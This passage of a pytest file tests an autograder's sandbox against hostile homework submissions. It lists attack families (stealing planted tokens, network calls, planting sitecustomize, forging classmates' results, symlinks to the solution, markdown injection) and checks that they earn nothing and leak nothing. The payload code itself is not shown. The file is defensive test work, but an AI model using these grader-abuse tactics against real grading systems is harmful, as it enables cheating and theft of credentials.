    "steal_secrets_in_call": Attack("6", empty(pad=STEAL_IN_CALL), "zero"),
    "steal_secrets_in_results": Attack("6", empty(dpo_loss=STEAL_IN_RESULTS), "zero"),
    # 7. network
    "network_top_level": Attack("7", empty(apply_chat_template=NETWORK_TOPLEVEL), "zero", "ATTACK-net"),
    "network_in_call": Attack("7", empty(pad=NETWORK_IN_CALL), "zero"),
    # 8. writes outside the scratch folder
    "write_into_kit": Attack("8", empty(apply_chat_template=WRITE_KIT), "zero", "ATTACK-kit"),
    "forge_other_students": Attack("8", empty(apply_chat_template=FORGE_OUT), "zero", "ATTACK-out"),
    "plant_sitecustomize": Attack("8", empty(apply_chat_template=PLANT_SITECUSTOMIZE + "\nraise RuntimeError("
                                                                "'ATTACK-planted ' + str(_planted)[:200])\n"),
                                  "zero", "ATTACK-planted"),
}
CONTROLS = {"perfect_control": SOLUTION, "empty_control": {}, "plain_control": plain_answers(IDENTITY_WRAPS)}
# 9. broken batches: students whose folder is odd (made in `write_batch_oddities`)
ODD_GRADED = {"stray_notebook", "extra_folder_ipynb", "aaa_impostor", "malformed_notebook"}  # graded in a sandbox
ODD_ERRORS = {"dangling_link", "fifo_notebook", "unreadable_notebook", "binary_notebook", "symlink_to_solution",
              "symlink_to_classmate"}  # an error result, no sandbox
ODD_ABSENT = {"only_a_folder", "symlinked_folder"}  # nothing gradable: a warning, no result


# ================================================================ the run

@dataclass
class Listener:
    """TCP, UDP and abstract unix servers on the loopback that record whatever reaches them."""

    tcp: socket.socket = field(default_factory=lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM))
    udp: socket.socket = field(default_factory=lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
    unix: socket.socket = field(default_factory=lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM))
    received: list = field(default_factory=list)
    stop: threading.Event = field(default_factory=threading.Event)

    def start(self, unix_name: str) -> None:
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(16)
        self.udp.bind(("127.0.0.1", 0))
        self.unix.bind("\0" + unix_name)
        self.unix.listen(16)
        for server in (self.tcp, self.udp, self.unix):
            server.settimeout(0.5)
        for target in (self._accept(self.tcp), self._accept(self.unix), self._udp):
            threading.Thread(target=target, daemon=True).start()

    def _accept(self, server):
        def loop():
            while not self.stop.is_set():
                try:
                    connection, peer = server.accept()
                except (TimeoutError, socket.timeout):
                    continue
                except OSError:
                    return
                with connection:
                    connection.settimeout(1)
                    try:
                        data = connection.recv(1024)
                    except OSError:
                        data = b""
                self.received.append((repr(peer), data))
        return loop

    def _udp(self):
        while not self.stop.is_set():
            try:
                data, peer = self.udp.recvfrom(1024)
            except (TimeoutError, socket.timeout):
                continue
            except OSError:
                return
            self.received.append((repr(peer), data))

    def close(self):
        self.stop.set()
        time.sleep(0.6)
        for server in (self.tcp, self.udp, self.unix):
            server.close()


def marked_processes() -> list[tuple[int, str]]:
    """Processes of this machine whose command line or environment holds the run's marker."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        for part in ("cmdline", "environ"):
            try:
                data = (entry / part).read_bytes()
            except OSError:
                continue
            if MARK.encode() in data:
                found.append((int(entry.name), data.replace(b"\0", b" ")[:200].decode(errors="replace")))
                break
    return found


def marker_paths() -> list[Path]:
    """Files an attack may have created outside the sandbox (all carry the marker in their name or are planted)."""
    folders = [Path("/tmp"), REPO_ROOT, REPO_ROOT / "autograder", REPO_ROOT / "autograder" / "grading",
               REPO_ROOT / "autograder" / "grading" / "exercise", REPO_ROOT / "solutions", SITE_PACKAGES,
               Path(sys.executable).parent, Path(os.__file__).parent]
    from autograder.fixtures.build import fixture_paths

    folders.append(fixture_paths().root)
    found = []
    for folder in folders:
        if folder.is_dir():
            found += [p for p in folder.iterdir() if MARK in p.name]
    for folder in (REPO_ROOT, REPO_ROOT / "autograder", SITE_PACKAGES, Path(os.__file__).parent):
        for name in ("sitecustomize.py", "usercustomize.py"):
            path = folder / name
            try:
                if MARK in path.read_text():
                    found.append(path)
            except OSError:
                pass
    return found


def write_notebook(path: Path, answers: dict) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(fill_answers(RELEASE_NOTEBOOK, answers), path)
    return path


def submission_path(folder: Path, student: str) -> Path:
    return folder / student / "hw2_dpo_ppo" / "hw2_dpo_ppo.ipynb"


def write_batch_oddities(submitted: Path) -> None:
    """Family 9: odd files and folders in some students' nbgrader folders."""
    # a stray second notebook (the solution!) next to an empty hw2_dpo_ppo.ipynb: the official name is graded
    write_notebook(submission_path(submitted, "stray_notebook"), {})
    write_notebook(submitted / "stray_notebook" / "hw2_dpo_ppo" / "copy_of_solution.ipynb", SOLUTION)
    # a folder named like a notebook next to the real (empty) notebook, and a student with only such a folder
    write_notebook(submission_path(submitted, "extra_folder_ipynb"), {})
    (submitted / "extra_folder_ipynb" / "hw2_dpo_ppo" / "notes.ipynb").mkdir()
    submission_path(submitted, "only_a_folder").mkdir(parents=True)
    # a dangling link, a named pipe (opening it would block), garbage nobody may read, bytes that are not UTF-8
    submission_path(submitted, "dangling_link").parent.mkdir(parents=True)
    submission_path(submitted, "dangling_link").symlink_to("/nonexistent/hw2_dpo_ppo.ipynb")
    submission_path(submitted, "fifo_notebook").parent.mkdir(parents=True)
    os.mkfifo(submission_path(submitted, "fifo_notebook"))
    unreadable = submission_path(submitted, "unreadable_notebook")
    unreadable.parent.mkdir(parents=True)
    unreadable.write_text("{ this is not a notebook")
    unreadable.chmod(0)
    binary = submission_path(submitted, "binary_notebook")
    binary.parent.mkdir(parents=True)
    binary.write_bytes(b"\xff\xfe\x00garbage" + secrets.token_bytes(256))
    # valid JSON with cells of the wrong types everywhere (metadata a list, sources of numbers...) around one
    # well-formed answer (the solution's `pad`)
    malformed = submission_path(submitted, "malformed_notebook")
    malformed.parent.mkdir(parents=True)
    malformed.write_text(json.dumps({"cells": [
        {"cell_type": "code", "metadata": [], "source": 5},
        {"cell_type": "code", "metadata": {"nbgrader": {"solution": True, "grade_id": "pad"}}, "source": [1, 2]},
        {"cell_type": "code", "metadata": {"nbgrader": {"solution": True, "grade_id": ["pad"]}}, "source": "x"},
        {"cell_type": "code", "metadata": {"nbgrader": "yes"}, "source": "x"},
        "a string", 5, None,
        {"cell_type": "code", "metadata": {"nbgrader": {"solution": True, "grade": False, "grade_id": "pad"}},
         "source": SOLUTION["pad"].splitlines(keepends=True)}], "metadata": 3, "nbformat": 4, "nbformat_minor": 5}))
    # links to the instructor's solution notebook and to a classmate's notebook, and a linked folder
    link = submission_path(submitted, "symlink_to_solution")
    link.parent.mkdir(parents=True)
    link.symlink_to(SOURCE_NOTEBOOK)
    link = submission_path(submitted, "symlink_to_classmate")
    link.parent.mkdir(parents=True)
    link.symlink_to(submission_path(submitted, "perfect_control"))
    (submitted / "symlinked_folder").mkdir()
    (submitted / "symlinked_folder" / "hw2_dpo_ppo").symlink_to(SOURCE_NOTEBOOK.parent, target_is_directory=True)
    # a student who nests a classmate's folder (with an empty notebook) and a made-up student in their own folder
    write_notebook(submission_path(submitted, "aaa_impostor"), {})
    write_notebook(submitted / "aaa_impostor" / "hw2_dpo_ppo" / "perfect_control" / "hw2_dpo_ppo"
                   / "hw2_dpo_ppo.ipynb", {})
    write_notebook(submitted / "aaa_impostor" / "hw2_dpo_ppo" / "extra" / f"{FAKE_STUDENT}.ipynb", SOLUTION)


@dataclass
class AttackRun:
    run: subprocess.CompletedProcess
    out: Path
    submitted: Path
    home: Path
    listener: Listener
    canary: subprocess.Popen
    canary_alive: bool
    survivors: list
    stray_files: list
    seconds: float


@pytest.fixture(scope="module")
def attack_run(fixtures, tmp_path_factory):
    submitted = tmp_path_factory.mktemp("hostile")
    out = tmp_path_factory.mktemp("hostile-grades")
    home = tmp_path_factory.mktemp("home")
    (home / ".cache" / "huggingface").mkdir(parents=True)
    (home / ".cache" / "huggingface" / "token").write_text(FILE_SECRET)
    listener = Listener()
    listener.start(f"hw2-{MARK}")
    canary = subprocess.Popen(["sleep", "3600"])
    params = {"mark": MARK, "repo": str(REPO_ROOT), "out": str(out), "home": str(home), "sub": str(submitted),
              "port": listener.tcp.getsockname()[1], "udp_port": listener.udp.getsockname()[1],
              "unix": f"hw2-{MARK}", "canary": canary.pid, "site": str(SITE_PACKAGES),
              "fixtures": str(fixtures.root), "fake_student": FAKE_STUDENT, "leak_canary": LEAK_CANARY}
    for student, attack in ATTACKS.items():
        answers = {gid: prelude(params) + code if code.strip() else code for gid, code in attack.answers.items()}
        write_notebook(submission_path(submitted, student), answers)
    for student, answers in CONTROLS.items():
        write_notebook(submission_path(submitted, student), answers)
    write_batch_oddities(submitted)
    env = {**os.environ, "HOME": str(home), "HF_TOKEN": HF_SECRET, "HUGGING_FACE_HUB_TOKEN": HF_SECRET,
           "WANDB_API_KEY": WANDB_SECRET}
    command = [sys.executable, "-m", "autograder", "grade", str(submitted), "--out", str(out), "--jobs", "2",
               "--seed", "0", "--check-timeout", "30", "--timeout", "300"]
    start = time.monotonic()
    try:
        run = subprocess.run(command, cwd=REPO_ROOT, env=env, capture_output=True, text=True, timeout=3 * 3600)
        seconds = time.monotonic() - start
        time.sleep(2)
        survivors = marked_processes()
        canary_alive = canary.poll() is None
        stray_files = marker_paths()
        yield AttackRun(run, out, submitted, home, listener, canary, canary_alive, survivors, stray_files, seconds)
    finally:
        listener.close()
        for pid, _ in marked_processes():  # only processes carrying this run's marker
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        canary.kill()
        canary.wait()
        for path in marker_paths():
            path.unlink(missing_ok=True)
        unreadable = submission_path(submitted, "unreadable_notebook")
        if unreadable.exists():
            unreadable.chmod(0o600)


def result(run: AttackRun, student: str) -> dict:
    path = run.out / f"{student}.json"
    assert path.is_file(), f"no result for {student}; CLI stderr:\n{run.run.stderr[-3000:]}"
    return json.loads(path.read_text())


def describe(record: dict) -> str:
    """What to print when an assertion fails: scores, statuses, notes."""
    tests = {gid: f"{t['score']:g} {t['status']}" for gid, t in record["tests"].items()}
    return json.dumps({"score": record["score"], "tests": tests, "notes": record["notes"]}, indent=1)[:4000]


def assert_same_scores(record: dict, reference: dict, skip_timeouts: bool = False) -> None:
    """Every test scores what it scores in `reference` (the same answers without the attack)."""
    for gid, test in record["tests"].items():
        expected = reference["tests"][gid]
        if skip_timeouts and "timeout" in (test["status"], expected["status"]):
            continue
        assert test["score"] == pytest.approx(expected["score"], abs=1e-6), (
            f"{gid}: {test['score']} ({test['status']}) instead of {expected['score']} ({expected['status']})\n"
            f"{test['feedback'][:1500]}\n{describe(record)}")


# ================================================================ the batch as a whole

def test_cli_exits_zero_with_one_row_per_student(attack_run):
    run = attack_run.run
    assert run.returncode == 0, f"stdout:\n{run.stdout[-3000:]}\nstderr:\n{run.stderr[-5000:]}"
    expected = set(ATTACKS) | set(CONTROLS) | ODD_GRADED | ODD_ERRORS
    jsons = {p.stem for p in attack_run.out.glob("*.json")}
    assert jsons == expected, f"missing {expected - jsons}, unexpected {jsons - expected}"
    assert {p.name.removesuffix(".feedback.md") for p in attack_run.out.glob("*.feedback.md")} == expected
    with open(attack_run.out / "grades.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted(r["student"] for r in rows) == sorted(expected)
    for row in rows:
        record = result(attack_run, row["student"])
        assert float(row["score"]) == pytest.approx(record["score"]), row["student"]
        for gid, test in record["tests"].items():
            assert float(row[gid]) == pytest.approx(test["score"]), (row["student"], gid)
    assert set(os.listdir(attack_run.out)) == {f"{s}.json" for s in expected} | {
        f"{s}.feedback.md" for s in expected} | {"grades.csv"}


def test_controls_are_graded_as_usual(attack_run):
    perfect, empty_ = result(attack_run, "perfect_control"), result(attack_run, "empty_control")
    plain = result(attack_run, "plain_control")
    assert empty_["score"] == 0
    assert perfect["score"] > 0.5 * perfect["max_score"], describe(perfect)
    assert plain["score"] < 0.25 * perfect["score"], describe(plain)
    assert perfect["submission"] == str(submission_path(attack_run.submitted, "perfect_control").resolve())


def test_run_time_is_reported(attack_run):
    print(f"\n{len(ATTACKS) + len(CONTROLS) + len(ODD_GRADED)} submissions graded in {attack_run.seconds:.0f} s")


# ================================================================ one test per hostile submission

@pytest.mark.parametrize("student", sorted(ATTACKS))
def test_attack_scores_the_honest_score(attack_run, student):
    attack = ATTACKS[student]
    record = result(attack_run, student)
    if attack.note:
        assert any(attack.note in note for note in record["notes"]), (
            f"the attack did not run to its end (no note with {attack.note!r}):\n{describe(record)}")
    if attack.expect == "zero":
        assert record["score"] == 0, describe(record)
        assert not any(t["status"] == "passed" for t in record["tests"].values()), describe(record)
    elif attack.expect == "plain":
        assert_same_scores(record, result(attack_run, "plain_control"))
    elif attack.expect == "plain_or_less":  # the trick may break the student's own process, never buy points
        plain = result(attack_run, "plain_control")
        for gid, test in record["tests"].items():
            assert test["score"] <= plain["tests"][gid]["score"] + 1e-9, f"{gid}\n{describe(record)}"
    elif attack.expect == "perfect":
        assert_same_scores(record, result(attack_run, "perfect_control"), skip_timeouts=True)
    assert record["student"] == student and record["grader_key"] != "forged"


# ---------------------------------------------------------------- family-level assertions

def test_no_process_of_an_attack_survives(attack_run):
    assert attack_run.survivors == [], f"processes of the attacks outlived the grading:\n{attack_run.survivors}"


def test_daemons_could_not_kill_the_canary(attack_run):
    assert attack_run.canary_alive


def test_no_file_written_outside_the_sandbox(attack_run):
    assert attack_run.stray_files == []
    out_names = set(os.listdir(attack_run.out))
    assert not any(MARK in name for name in out_names)
    assert not (attack_run.out / f"{FAKE_STUDENT}.json").exists()
    planted = Path(f"/tmp/hw2-pwned-{MARK}")
    assert not planted.exists() and not Path(f"{planted}-daemon").exists()


def test_the_exit_attack_crashed_only_its_own_sandbox(attack_run):
    record = result(attack_run, "exit_in_graded_functions")
    statuses = {gid: t["status"] for gid, t in record["tests"].items()}
    assert statuses["test_pad"] == "error" and "process" in record["tests"]["test_pad"]["feedback"], describe(record)


def test_forged_files_in_the_out_folder_do_not_count(attack_run):
    assert result(attack_run, "empty_control")["score"] == 0
    perfect = result(attack_run, "perfect_control")
    assert perfect["score"] > 0 and perfect["grader_key"] != "forged"
    assert MARK not in (attack_run.out / "empty_control.feedback.md").read_text()


def test_fake_results_on_stdout_do_not_reach_the_cli_output(attack_run):
    assert FAKE_STUDENT not in attack_run.run.stdout + attack_run.run.stderr


def test_loopback_servers_received_nothing(attack_run):
    assert attack_run.listener.received == []
    notes = " ".join(result(attack_run, "network_top_level")["notes"])
    assert "CONNECTED" not in notes, notes


def test_secrets_appear_in_no_output(attack_run):
    # the channel works: what the leaking submissions found does reach their feedback...
    leaking = ("steal_secrets_top_level", "steal_secrets_in_call", "steal_secrets_in_results")
    for student in leaking:
        text = (attack_run.out / f"{student}.json").read_text()
        assert LEAK_CANARY in text, f"{student}: the leak channel did not work\n{describe(result(attack_run, student))}"
    # ... but no secret does, in any form, anywhere
    outputs = {p.name: p.read_text(errors="replace") for p in attack_run.out.iterdir()}
    outputs["stdout"], outputs["stderr"] = attack_run.run.stdout, attack_run.run.stderr
    for secret in SECRETS:
        for form in (secret, secret.encode().hex(), secret[len("hf_"):]):
            leaked = [name for name, text in outputs.items() if form in text]
            assert leaked == [], f"a secret leaked into {leaked}"


def test_markdown_feedback_cannot_be_forged(attack_run):
    text = (attack_run.out / "markdown_injection.feedback.md").read_text()
    outside = markdown_outside_code(text)
    headings = [line for line in outside if line.startswith("# ")]
    scores = [line for line in outside if line.startswith("Automatic score")]
    rows = [line for line in outside if line.startswith("| `")]
    sections = [line for line in outside if line.startswith("## ")]
    tests = list(autograded_tests())
    assert headings == ["# Feedback for markdown_injection"], headings
    assert len(scores) == 1 and scores[0].startswith("Automatic score: **0 /"), scores
    assert [r.split("`")[1] for r in rows] == tests, rows
    assert sections == [f"## {gid}" for gid in tests], sections
    record = json.loads((attack_run.out / "markdown_injection.json").read_text())
    (points,) = points_sentence(record["points"])  # the grader's own sentence on what the homework is out of
    assert outside.count(points) == 1
    stray = [line for line in outside if line.strip() and line != points
             and not (line.startswith(("# ", "## ", "| ", "> ")) or line.startswith("Automatic score"))]
    assert stray == [], stray


def markdown_outside_code(text: str) -> list[str]:
    """The lines of a markdown text that are not inside fenced code blocks (CommonMark backtick fences)."""
    outside, fence = [], None
    for line in text.splitlines():
        match = re.match(r"^ {0,3}(`{3,})(.*)$", line)
        if fence is None:
            if match and "`" not in match.group(2):
                fence = len(match.group(1))
            else:
                outside.append(line)
        elif match and len(match.group(1)) >= fence and not match.group(2).strip():
            fence = None
    return outside


# ---------------------------------------------------------------- family 9: broken batches

def test_stray_notebook_is_ignored_and_named(attack_run):
    record = result(attack_run, "stray_notebook")
    assert record["score"] == 0 and record["submission"].endswith("stray_notebook/hw2_dpo_ppo/hw2_dpo_ppo.ipynb")
    assert any("copy_of_solution.ipynb" in note for note in record["notes"]), record["notes"]


def test_folders_named_like_notebooks_are_skipped(attack_run):
    assert result(attack_run, "extra_folder_ipynb")["score"] == 0
    assert "notes.ipynb" in attack_run.run.stderr and "only_a_folder" in attack_run.run.stderr
    assert not (attack_run.out / "only_a_folder.json").exists()


@pytest.mark.parametrize("student", sorted(ODD_ERRORS))
def test_unreadable_submissions_get_an_error_result(attack_run, student):
    record = result(attack_run, student)
    assert record["score"] == 0, describe(record)
    assert all(t["status"] == "error" for t in record["tests"].values()), describe(record)
    assert not any("internal error" in t["feedback"] for t in record["tests"].values()), describe(record)


def test_malformed_cells_count_as_missing_answers(attack_run):
    record, perfect = result(attack_run, "malformed_notebook"), result(attack_run, "perfect_control")
    assert not any("internal error" in t["feedback"] for t in record["tests"].values()), describe(record)
    assert record["tests"]["test_pad"]["score"] == perfect["tests"]["test_pad"]["score"], describe(record)
    assert record["score"] == record["tests"]["test_pad"]["score"], describe(record)


def test_links_out_of_the_submission_are_not_followed(attack_run):
    for student in ("symlink_to_solution", "symlink_to_classmate"):
        record = result(attack_run, student)
        assert record["score"] == 0, describe(record)
        assert "link" in record["tests"]["test_pad"]["feedback"], describe(record)
    assert not (attack_run.out / "symlinked_folder.json").exists()


def test_nested_folders_cannot_impersonate_a_classmate(attack_run):
    perfect = result(attack_run, "perfect_control")
    assert perfect["submission"] == str(submission_path(attack_run.submitted, "perfect_control").resolve())
    assert perfect["score"] > 0.5 * perfect["max_score"], describe(perfect)
    impostor = result(attack_run, "aaa_impostor")
    assert impostor["score"] == 0
    assert impostor["submission"] == str(submission_path(attack_run.submitted, "aaa_impostor").resolve())
    assert not (attack_run.out / f"{FAKE_STUDENT}.json").exists()
    assert any(FAKE_STUDENT in note for note in impostor["notes"]), impostor["notes"]
